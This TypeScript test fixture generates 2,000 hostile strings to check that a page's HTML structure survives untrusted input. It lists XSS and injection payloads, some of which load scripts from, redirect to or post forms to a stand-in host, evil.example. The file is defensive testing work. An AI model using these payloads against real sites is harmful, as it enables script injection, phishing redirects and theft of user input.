import { randomBytes } from 'node:crypto'

/** Strings that try to become anything but text. */
export const hostileStrings = 2_000

const sparks = [
  '<script>pwned=1</script>',
  '"><script src=//evil.example/x.js></script>',
  "'><img src=x onerror=pwned=1>",
  '<svg/onload=pwned=1>',
  '</title><script>pwned=1</script>',
  '</script><script>pwned=1</script>',
  '</textarea></style></noscript><iframe src=javascript:pwned=1>',
  '<!--><script>pwned=1</script>-->',
  '<![CDATA[<script>pwned=1</script>]]>',
  '" autofocus onfocus="pwned=1',
  "' style='background:url(//evil.example/x)' x='",
  '`onmouseover=pwned=1`',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>Pay</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<a href=javascript:pwned=1>x</a>',
  'javascript:pwned=1',
  '{{constructor.constructor("pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack.
  '${pwned=1}',
  '{store}{amount}{checkout}{wallet}',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '&#60;script&#62;pwned=1&#60;/script&#62;',
  '\u202egnp.exe\u2066\u2069\u200f',
  '\u0000<script\u0000>pwned=1</script>',
  '\u2028\u2029<script>pwned=1</script>',
  '\ud800<script>pwned=1</script>',
  '＜script＞pwned=1＜/script＞',
  '<scr\u0000ipt>pwned=1</scr\u0000ipt>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<template><script>pwned=1</script></template>',
  '<object data=data:text/html,<script>pwned=1</script>>',
  '<details open ontoggle=pwned=1>',
  '\\u003cscript\\u003epwned=1\\u003c/script\\u003e',
  '</main><main data-status=COMPLETED>',
  '<bdo dir=rtl>',
  'Z̴̡͚͘a̷l̵g̸o̶'.repeat(3),
]
const joints = ['', ' ', '"', "'", '>', '<', '/', '--!>', '\n', '\t', '`', '=', '&', ';', ']]>', '\\']

export const strings: readonly string[] = Array.from({ length: hostileStrings }, (_, i) => {
  const spark = sparks[i % sparks.length] ?? ''
  const joint = joints[Math.floor(i / sparks.length) % joints.length] ?? ''
  const other = sparks[(i * 7 + 3) % sparks.length] ?? ''
  return i < sparks.length ? spark : `${randomBytes(2).toString('hex')}${joint}${spark}${joint}${other}`
})

// PostgreSQL cannot store NUL or lone surrogates in text.
export const storable = (text: string) => text.replaceAll('\u0000', '').toWellFormed()

/** The names of the page's elements and attributes, in order. A hostile string must not change them. */
export function skeletonOf(html: string): string {
  return [...html.matchAll(/<(\/?[a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)]
    .map(([, name = '', attributes = '']) => name + attributes.replace(/="[^"]*"/g, ''))
    .join(' ')
}
